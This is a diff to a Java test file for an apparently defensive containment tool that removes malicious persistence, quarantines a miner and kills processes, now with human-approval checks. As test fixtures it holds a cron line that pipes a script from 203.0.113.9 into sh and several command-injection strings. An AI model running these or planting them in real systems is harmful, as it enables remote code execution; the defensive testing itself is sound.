@@ -53,7 +53,7 @@ class ContainmentImplTest {
     Path cron = file("crontab", "SHELL=/bin/sh\n" + bad + "\n0 3 * * * root /usr/bin/backup\n" + bad + " --extra\n");
     Files.setPosixFilePermissions(cron, PosixFilePermissions.fromString("rw-------"));
 
-    List<ActionRecord> records = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), bad)), "loop-1/persist");
+    List<ActionRecord> records = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), bad)), "loop-1/persist", null);
 
     assertEquals("done", records.get(0).outcome(), records.get(0).outputExcerpt());
     assertEquals("SHELL=/bin/sh\n0 3 * * * root /usr/bin/backup\n" + bad + " --extra\n", Files.readString(cron));
@@ -69,12 +69,12 @@ class ContainmentImplTest {
     String bad = "* * * * * curl -s http://203.0.113.9/x.sh | sh";
     Path cron = file("root", "# m h dom mon dow command\n" + bad + "\n");
     PersistenceItem item = new PersistenceItem("cron", cron.toString(), bad);
-    containment(false).removePersistence(HOST, List.of(item), "k");
+    containment(false).removePersistence(HOST, List.of(item), "k", null);
 
-    ActionRecord retry = containment(false).removePersistence(HOST, List.of(item), "k").get(0);
+    ActionRecord retry = containment(false).removePersistence(HOST, List.of(item), "k", null).get(0);
     assertEquals("done", retry.outcome());
     assertTrue(retry.outputExcerpt().startsWith("already removed"), retry.outputExcerpt());
-    ActionRecord unknown = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), "nope")), "k2").get(0);
+    ActionRecord unknown = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), "nope")), "k2", null).get(0);
     assertEquals("failed", unknown.outcome());
     assertEquals("# m h dom mon dow command\n", Files.readString(cron));
   }
@@ -86,7 +86,7 @@ class ContainmentImplTest {
     String bob = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBob bob@ci";
     Path keys = file("authorized_keys", alice + "\n" + intruder + "\n" + bob);
 
-    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("authorized_key", keys.toString(), intruder)), "k").get(0);
+    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("authorized_key", keys.toString(), intruder)), "k", null).get(0);
 
     assertEquals("done", record.outcome(), record.outputExcerpt());
     assertEquals(alice + "\n" + bob + "\n", Files.readString(keys));
@@ -98,7 +98,7 @@ class ContainmentImplTest {
     Path shared = file("ld.so.preload.2", "/usr/lib/libkeep.so\n/usr/local/lib/libprocesshider.so\n");
     List<ActionRecord> records = containment(false).removePersistence(HOST, List.of(
         new PersistenceItem("ld_preload", only.toString(), "/usr/local/lib/libprocesshider.so"),
-        new PersistenceItem("ld_preload", shared.toString(), "/usr/local/lib/libprocesshider.so")), "k");
+        new PersistenceItem("ld_preload", shared.toString(), "/usr/local/lib/libprocesshider.so")), "k", null);
 
     assertEquals(List.of("done", "done"), records.stream().map(ActionRecord::outcome).toList());
     assertFalse(Files.exists(only));
@@ -113,7 +113,7 @@ class ContainmentImplTest {
     Files.createSymbolicLink(wants.resolve("kworkerd.service"), unit);
     Path other = Files.createSymbolicLink(wants.resolve("nginx.service"), unit);
 
-    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("systemd", unit.toString(), "kworkerd.service")), "k").get(0);
+    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("systemd", unit.toString(), "kworkerd.service")), "k", null).get(0);
 
     assertEquals("done", record.outcome(), record.outputExcerpt());
     assertFalse(Files.exists(unit));
@@ -128,7 +128,7 @@ class ContainmentImplTest {
         new PersistenceItem("systemd", "/etc/systemd/system/x.service", "x.service; reboot"),
         new PersistenceItem("cron", "relative/crontab", "x"),
         new PersistenceItem("cron", "/etc/../etc/crontab", "x"),
-        new PersistenceItem("rc.local", "/etc/rc.local", "x")), "k");
+        new PersistenceItem("rc.local", "/etc/rc.local", "x")), "k", null);
     assertEquals(List.of("refused", "refused", "refused", "refused"), records.stream().map(ActionRecord::outcome).toList());
   }
 
@@ -136,7 +136,7 @@ class ContainmentImplTest {
   void quotesHostilePathsAndLines() throws Exception {
     String hostileLine = "* * * * * echo '$(touch " + root.resolve("pwned1") + ")' `touch " + root.resolve("pwned2") + "`";
     Path cron = file("cron;touch pwned3 $(id)", "keep me\n" + hostileLine + "\n");
-    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), hostileLine)), "k").get(0);
+    ActionRecord record = containment(false).removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), hostileLine)), "k", null).get(0);
 
     assertEquals("done", record.outcome(), record.outputExcerpt());
     assertEquals("keep me\n", Files.readString(cron));
@@ -150,7 +150,7 @@ class ContainmentImplTest {
     Path miner = file("xmrig", "#!/bin/sh\necho mining\n");
     String digest = BoundedText.sha256(Files.readString(miner));
 
-    ActionRecord record = containment(false).quarantine(HOST, List.of(miner.toString()), "loop-9").get(0);
+    ActionRecord record = containment(false).quarantine(HOST, List.of(miner.toString()), "loop-9", null).get(0);
 
     assertEquals("done", record.outcome(), record.outputExcerpt());
     assertFalse(Files.exists(miner));
@@ -161,7 +161,7 @@ class ContainmentImplTest {
     String manifest = Files.readString(root.resolve("quarantine/MANIFEST"));
     assertTrue(manifest.matches(digest + "  " + miner + "  \\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ\n"), manifest);
 
-    ActionRecord again = containment(false).quarantine(HOST, List.of(miner.toString()), "loop-9").get(0);
+    ActionRecord again = containment(false).quarantine(HOST, List.of(miner.toString()), "loop-9", null).get(0);
     assertTrue(again.outputExcerpt().startsWith("already quarantined"), again.outputExcerpt());
     assertEquals(1, Files.readAllLines(root.resolve("quarantine/MANIFEST")).size());
   }
@@ -174,10 +174,10 @@ class ContainmentImplTest {
     victim = TestHosts.start("sleep", "311");
     ContainmentImpl dry = containment(true);
 
-    EvidenceCapture evidence = dry.captureEvidence(HOST, List.of((int) victim.pid()), List.of(), "k");
-    ActionRecord stop = dry.suspend(HOST, (int) victim.pid(), "sleep 311", "k");
-    List<ActionRecord> removed = dry.removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), bad)), "k");
-    List<ActionRecord> moved = dry.quarantine(HOST, List.of(miner.toString()), "k");
+    EvidenceCapture evidence = dry.captureEvidence(HOST, List.of((int) victim.pid()), List.of(), "k", null);
+    ActionRecord stop = dry.suspend(HOST, (int) victim.pid(), "sleep 311", "k", null);
+    List<ActionRecord> removed = dry.removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), bad)), "k", null);
+    List<ActionRecord> moved = dry.quarantine(HOST, List.of(miner.toString()), "k", null);
 
     assertNull(evidence.evidenceDir());
     assertEquals("dry-run", stop.outcome());
@@ -197,7 +197,7 @@ class ContainmentImplTest {
     victim = TestHosts.start("sleep", "312");
     Path cron = file("crontab", "* * * * * /tmp/x\n");
     EvidenceCapture evidence = containment(false).captureEvidence(HOST, List.of((int) victim.pid()),
-        List.of(new PersistenceItem("cron", cron.toString(), "* * * * * /tmp/x")), "loop-e");
+        List.of(new PersistenceItem("cron", cron.toString(), "* * * * * /tmp/x")), "loop-e", null);
 
     int pid = (int) victim.pid();
     assertEquals("sleep 312 ", evidence.outputs().get("tr '\\0' ' ' < /proc/" + pid + "/cmdline"));
@@ -220,10 +220,10 @@ class ContainmentImplTest {
     int pid = (int) victim.pid();
     ContainmentImpl containment = containment(false);
 
-    assertEquals("done", containment.suspend(HOST, pid, "sleep 313", "s").outcome());
+    assertEquals("done", containment.suspend(HOST, pid, "sleep 313", "s", null).outcome());
     assertTrue(Files.readString(Path.of("/proc/" + pid + "/status")).contains("State:\tT"));
-    assertEquals("refused", containment.kill(HOST, pid, "sleep 999", "wrong").outcome());
-    ActionRecord kill = containment.kill(HOST, pid, "sleep 313", "k");
+    assertEquals("refused", containment.kill(HOST, pid, "sleep 999", "wrong", null).outcome());
+    ActionRecord kill = containment.kill(HOST, pid, "sleep 313", "k", null);
     assertEquals("done", kill.outcome(), kill.outputExcerpt());
     assertTrue(kill.command().contains("kill -KILL " + pid));
     assertTrue(TestHosts.dies(victim, Duration.ofSeconds(5)));
@@ -231,12 +231,71 @@ class ContainmentImplTest {
 
   @Test
   void neverSignalsPidOneOrAProtectedProcessAndHonoursThePolicy() throws Exception {
-    assertEquals("refused", containment(false).kill(HOST, 1, "/sbin/init", "k").outcome());
+    assertEquals("refused", containment(false).kill(HOST, 1, "/sbin/init", "k", null).outcome());
     victim = TestHosts.start("sleep", "314");
     ContainmentImpl protecting = containment(new RemediationPolicy(null, null, List.of("sleep"), false, 5, false));
-    assertEquals("refused", protecting.suspend(HOST, (int) victim.pid(), "sleep 314", "k").outcome());
+    assertEquals("refused", protecting.suspend(HOST, (int) victim.pid(), "sleep 314", "k", null).outcome());
     ContainmentImpl notAllowed = containment(new RemediationPolicy(List.of("restart-container"), null, null, false, 5, false));
-    assertEquals("refused", notAllowed.kill(HOST, (int) victim.pid(), "sleep 314", "k").outcome());
+    assertEquals("refused", notAllowed.kill(HOST, (int) victim.pid(), "sleep 314", "k", null).outcome());
     assertTrue(victim.isAlive());
+  }
+
+  @Test
+  void anApprovalIsTheDecisionDryRunAndTheProtectedListWaitFor() throws Exception {
+    String bad = "@reboot /tmp/x";
+    Path cron = file("crontab", "a\n" + bad + "\n");
+    Path payload = file("syncd", "binary");
+    victim = TestHosts.start("sleep", "315");
+    int pid = (int) victim.pid();
+    // A worker in dry-run that also protects "sleep": alone, rack would do nothing here.
+    ContainmentImpl held = containment(new RemediationPolicy(null, null, List.of("sleep"), true, 5, false));
+    assertEquals("refused", held.suspend(HOST, pid, "sleep 315", "alone", null).outcome());
+
+    EvidenceCapture evidence = held.captureEvidence(HOST, List.of(pid), List.of(), "approved", "alice");
+    assertNotNull(evidence.evidenceDir(), "evidence is kept on the host once a person approved");
+    assertEquals("done", held.suspend(HOST, pid, "sleep 315", "approved", "alice").outcome());
+    assertEquals("done", held.removePersistence(HOST, List.of(new PersistenceItem("cron", cron.toString(), bad)), "approved", "alice")
+        .get(0).outcome());
+    assertEquals("done", held.kill(HOST, pid, "sleep 315", "approved", "alice").outcome());
+    assertEquals("done", held.quarantine(HOST, List.of(payload.toString()), "approved", "alice").get(0).outcome());
+    assertTrue(TestHosts.dies(victim, Duration.ofSeconds(5)));
+    assertEquals("a\n", Files.readString(cron));
+    assertFalse(Files.exists(payload));
+  }
+
+  @Test
+  void anApprovalNeverReachesPidOneOrAnActionThePolicyDoesNotAllow() throws Exception {
+    assertEquals("refused", containment(true).kill(HOST, 1, "/sbin/init", "k", "alice").outcome());
+    victim = TestHosts.start("sleep", "316");
+    ContainmentImpl notAllowed = containment(new RemediationPolicy(List.of("restart-container"), null, null, false, 5, false));
+    assertEquals("refused", notAllowed.kill(HOST, (int) victim.pid(), "sleep 316", "k", "alice").outcome());
+    assertTrue(victim.isAlive());
+  }
+
+  /**
+   * What killed the lab once: a dropper's parent, seen from the host, was the lab host's PID 1 (its
+   * PID namespace's init), and a watchdog kill took the whole namespace down. A container's init
+   * looks the same from the host. Real namespace: needs root and unshare, as the lab does.
+   */
+  @Test
+  void neverSignalsTheInitOfAPidNamespace() throws Exception {
+    org.junit.jupiter.api.Assumptions.assumeTrue(TestHosts.sh("id -u").strip().equals("0"), "needs root for unshare --pid");
+    victim = TestHosts.start("unshare", "--pid", "--fork", "sleep", "318");
+    long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
+    java.util.Optional<ProcessHandle> init = java.util.Optional.empty();
+    while (init.isEmpty() && System.nanoTime() < deadline) {
+      init = victim.toHandle().children().findFirst();
+      if (init.isEmpty()) Thread.sleep(50);
+    }
+    org.junit.jupiter.api.Assumptions.assumeTrue(init.isPresent() && victim.isAlive(), "unshare --pid is not available here");
+    int pid = (int) init.get().pid();
+    assertTrue(Files.readString(Path.of("/proc/" + pid + "/status")).matches("(?s).*NSpid:\\s+" + pid + "\\s+1\\s.*"));
+
+    ActionRecord alone = containment(false).kill(HOST, pid, "sleep 318", "k", null);
+    assertEquals("refused", alone.outcome());
+    assertTrue(alone.outputExcerpt().contains("PID 1 of its own PID namespace") || alone.toString().contains("PID 1 of its own PID namespace"),
+        alone.toString());
+    assertEquals("refused", containment(false).suspend(HOST, pid, "sleep 318", "k2", "alice").outcome(), "not even when approved");
+    assertTrue(init.get().isAlive());
   }
 }
